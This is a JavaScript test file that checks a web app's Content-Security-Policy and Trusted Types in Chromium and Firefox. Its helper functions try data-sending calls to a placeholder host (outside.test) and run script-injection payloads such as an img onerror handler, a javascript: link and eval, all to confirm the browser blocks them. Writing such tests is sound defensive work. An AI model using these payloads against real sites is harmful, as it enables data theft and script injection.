// What the browser refuses the page and its worker, in Chromium and Firefox: whatever got into them could not load, run or send.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { doctored, said, saying, withoutPolicy } from './lib/doctored.mjs';
import { box, button, DIST, MINUTES, analyse, fileInput, shown } from './lib/page.mjs';
import { MINUTES_PDF } from './lib/pdfs.mjs';
import { record } from './lib/recorder.mjs';

const page = readFileSync(join(DIST, 'index.html'), 'utf8');

test('the policy is the first thing in the page, and lets nothing inline or out of a string run', () => {
  const policy = page.match(/<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)"/)?.[1];
  assert.ok(policy, 'the page begins without a policy');
  for (const must of ["default-src 'none'", "connect-src 'self'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "require-trusted-types-for 'script'"]) {
    assert.ok(policy.split('; ').includes(must), `${must} is not in: ${policy}`);
  }
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/);
});

test('the page holds no script, style or handler of its own, and the browser checks all that it loads', () => {
  assert.doesNotMatch(page, /<script(?![^>]* src=)|<style|\sstyle=|\son\w+=/i);
  const loaded = page.match(/<(?:script|link)[^>]*(?:src=|rel="stylesheet"|rel="modulepreload")[^>]*>/g);
  assert.ok(loaded.length > 3, `only ${loaded}`);
  assert.deepEqual(loaded.filter((element) => !/integrity="sha384-/.test(element)), []);
});

/** Ways out of a page and into it. Each gives "refused …", or what became of it. */
async function tryInPage() {
  const tried = {};
  const attempt = async (name, way) => {
    try {
      tried[name] = await Promise.race([way(), new Promise((resolve) => { setTimeout(resolve, 1500, 'nothing'); })]);
    } catch (error) {
      tried[name] = `refused ${error.name}`;
    }
  };
  const loads = (element) => new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    document.body.append(element);
  });
  const made = (name, values) => Object.assign(document.createElement(name), values);
  const elsewhere = 'http://outside.test/';
  await attempt('fetch elsewhere', () => fetch(elsewhere, { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('beacon elsewhere', async () => { navigator.sendBeacon(elsewhere, 'x'); return 'refused or not: the recording says'; });
  await attempt('socket elsewhere', () => new Promise((resolve) => { const socket = new WebSocket('ws://outside.test/'); socket.onerror = () => resolve('refused'); socket.onopen = () => resolve('sent'); }));
  await attempt('image elsewhere', () => loads(made('img', { src: `${elsewhere}x.png` })));
  await attempt('style elsewhere', () => loads(made('link', { rel: 'stylesheet', href: `${elsewhere}x.css` })));
  await attempt('frame elsewhere', () => loads(made('iframe', { src: elsewhere })).then(() => 'refused or not: the recording says'));
  await attempt('import elsewhere', () => import(`${elsewhere}x.js`).then(() => 'run'));
  await attempt('import of words', () => import('data:text/javascript,self.ran = 1').then(() => 'run'));
  await attempt('eval', async () => (0, eval)('"run"'));
  await attempt('Function', async () => new Function('return "run"')());
  await attempt('markup', async () => { document.createElement('p').innerHTML = '<img src=x onerror=self.ran=1>'; return 'put'; });
  await attempt('markup beside', async () => { document.body.insertAdjacentHTML('beforeend', '<b>put</b>'); return 'put'; });
  await attempt('script by address', async () => { document.body.append(made('script', { src: `${elsewhere}x.js` })); return 'put'; });
  await attempt('script by words', async () => { document.body.append(made('script', { text: 'self.ran = 1' })); return 'put'; });
  await attempt('handler', async () => { const element = made('button'); element.setAttribute('onclick', 'self.ran = 1'); element.click(); return self.ran ? 'run' : 'refused'; });
  await attempt('link', async () => { const link = made('a', { href: 'javascript:self.ran = 1' }); document.body.append(link); link.click(); await new Promise((resolve) => { setTimeout(resolve, 200); }); return self.ran ? 'run' : 'refused'; });
  await attempt('worker', async () => { new Worker('./other.js'); return 'started'; });
  await attempt('form', async () => { const form = made('form', { action: elsewhere, method: 'post' }); document.body.append(form); form.submit(); return 'refused or not: the recording says'; });
  await attempt('policy of one\'s own', async () => { trustedTypes.createPolicy('other', {}); return 'made'; });
  return tried;
}

/** The same in the worker. */
async function tryInWorker() {
  const tried = {};
  const attempt = async (name, way) => {
    try {
      tried[name] = await way();
    } catch (error) {
      tried[name] = `refused ${error.name}`;
    }
  };
  tried.left = ['fetch', 'XMLHttpRequest', 'WebSocket', 'WebTransport', 'EventSource', 'importScripts', 'Worker', 'caches'].filter((name) => name in self);
  await attempt('import elsewhere', () => import('http://outside.test/x.js').then(() => 'run'));
  await attempt('import of words', () => import('data:text/javascript,self.ran = 1').then(() => 'run'));
  await attempt('eval', async () => (0, eval)('"run"'));
  await attempt('Function', async () => new Function('return "run"')());
  return tried;
}

/** What a worker that still has `fetch` could do: the policy alone. */
const fetchesElsewhere = `async () => fetch("http://outside.test/", { mode: "no-cors" }).then(() => "sent", (error) => "refused " + error.name)`;

/** What starts the worker. */
const LOADER = /worker_loader\.js$/;

for (const which of ['chromium', 'firefox']) {
  const skip = which === 'firefox' && !process.env.FIREFOX && 'no Firefox here';
  const within = async (changes, act) => {
    const { folder, remove } = doctored(changes);
    const recorder = await record(folder, which);
    try {
      // A reader starts with the page: what it says is listened for before.
      const told = changes.some(([path]) => path === LOADER) ? said(recorder.page) : undefined;
      await recorder.page.goto(recorder.address);
      await box(recorder.page).waitFor();
      await act({ ...recorder, told: await told });
    } finally {
      await recorder.stop();
      remove();
    }
  };

  test(`nothing gets out of the page or into it, in ${which}`, { skip, timeout: 120_000 }, async (t) => {
    await within([], async ({ page, foreign }) => {
      await analyse(page, MINUTES);
      await shown(page);
      const tried = await page.evaluate(tryInPage);
      t.diagnostic(JSON.stringify(tried));
      assert.deepEqual(Object.entries(tried).filter(([, what]) => !/^(refused|nothing)/.test(what)), []);
      assert.equal(await page.evaluate(() => self.ran), undefined);
      assert.deepEqual(foreign, []);
    });
  });

  test(`without the policy they would, in ${which}: these ways are open`, { skip, timeout: 120_000 }, async () => {
    await within([[/^index\.html$/, withoutPolicy]], async ({ page, foreign }) => {
      // Some of them lead away from the page, so that nobody is left to tell how they went.
      page.evaluate(tryInPage).catch(() => {});
      for (let tries = 0; foreign.length < 5 && tries < 100; tries += 1) await new Promise((resolve) => { setTimeout(resolve, 200); });
      assert.ok(foreign.length >= 5, `only ${foreign}`);
    });
  });

  test(`nothing gets out of the worker or into it, in ${which}`, { skip, timeout: 120_000 }, async (t) => {
    await within([[LOADER, saying(tryInWorker.toString())]], async ({ page, foreign, told }) => {
      t.diagnostic(JSON.stringify(told));
      const { left, ...ways } = told;
      assert.deepEqual(left, []);
      assert.deepEqual(Object.entries(ways).filter(([, what]) => !what.startsWith('refused')), []);
      assert.deepEqual(foreign, []);
      await button(page, 'Try an example: parish').click();
      await shown(page);
    });
  });

  test(`the policy binds the worker even if it had kept its ways out, in ${which}`, { skip, timeout: 120_000 }, async () => {
    const keeping = (text) => text.replace(/for \(const name of GONE\).*/, '');
    const loader = [LOADER, (text) => saying(fetchesElsewhere)(keeping(text))];
    await within([loader], async ({ foreign, told }) => {
      assert.match(told, /^refused/);
      assert.deepEqual(foreign, []);
    });
    await within([loader, [/^index\.html$/, withoutPolicy]], async ({ foreign }) => {
      assert.deepEqual(foreign, ['http://outside.test/']);
    });
  });

  test(`a PDF file is read where nothing gets out, and nothing of it is refused, in ${which}`, { skip, timeout: 120_000 }, async () => {
    await within([], async ({ page, foreign }) => {
      const complaints = [];
      page.on('console', (message) => { if (/Content.Security.Policy|Trusted/i.test(message.text())) complaints.push(message.text()); });
      await fileInput(page).setInputFiles(MINUTES_PDF);
      await shown(page);
      assert.deepEqual(complaints, []);
      assert.deepEqual(foreign, []);
    });
  });
}
